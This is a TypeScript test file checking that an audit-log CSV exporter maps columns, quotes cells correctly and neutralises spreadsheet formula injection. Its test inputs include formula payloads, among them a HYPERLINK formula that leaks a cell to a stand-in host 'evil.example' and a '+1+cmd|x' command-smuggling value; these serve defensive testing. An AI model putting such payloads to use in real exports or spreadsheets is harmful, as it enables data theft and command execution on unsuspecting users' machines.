import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import type { AuditEntry } from '@gatehouse/contract'
import { csvHead, csvLine } from './csv.ts'

const entry: AuditEntry = {
  writer: 'gateway-1',
  sequence: 7,
  time: '2026-11-21T08:00:00.000Z',
  actor: { kind: 'user', id: 'amara-okafor' },
  action: 'RevealSecret',
  resource: { type: 'Secret', id: 'shop/db' },
  decision: 'allow',
  policies: ['admins', 'every-stage'],
  previous: '0'.repeat(64),
  hash: 'f'.repeat(64),
}

/** The cells of a line, as a reader of CSV has them (RFC 4180). */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))(?=,|\r\n$)/g)].map(
    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
  )
}

function cell(name: string, given: Partial<AuditEntry>): string | undefined {
  return cellsOf(csvLine({ ...entry, ...given }))[cellsOf(csvHead).indexOf(name)]
}

describe('csvLine', () => {
  it('has a cell for each column', () => {
    const names = cellsOf(csvHead)
    const cells = cellsOf(csvLine(entry))
    assert.deepEqual(Object.fromEntries(names.map((name, index) => [name, cells[index]])), {
      time: entry.time,
      writer: 'gateway-1',
      sequence: '7',
      actor_kind: 'user',
      actor_id: 'amara-okafor',
      actor_name: '',
      action: 'RevealSecret',
      resource_type: 'Secret',
      resource_id: 'shop/db',
      decision: 'allow',
      policies: 'admins every-stage',
      reason: '',
      request_id: '',
      address: '',
      previous: entry.previous,
      hash: entry.hash,
    })
  })

  it('keeps quotes, commas and line breaks in their cell', () => {
    const reason = 'a "quoted", thing\r\nand more'
    assert.equal(cell('reason', { reason }), reason)
  })

  for (const text of [
    '=HYPERLINK("http://evil.example?x="&A1)',
    '+1+cmd|x',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
    '＝1',
  ]) {
    it(`makes no formula of ${JSON.stringify(text)}`, () => {
      for (const given of [
        { reason: text },
        { resource: { type: 'Object', id: text } },
        { actor: { kind: 'user', id: text } },
      ] as Partial<AuditEntry>[]) {
        const cells = cellsOf(csvLine({ ...entry, ...given }))
        assert.equal(cells.includes(`'${text}`), true)
        assert.equal(
          cells.some((value) => /^\s*[=+\-@＝]/.test(value)),
          false,
        )
      }
    })
  }
})
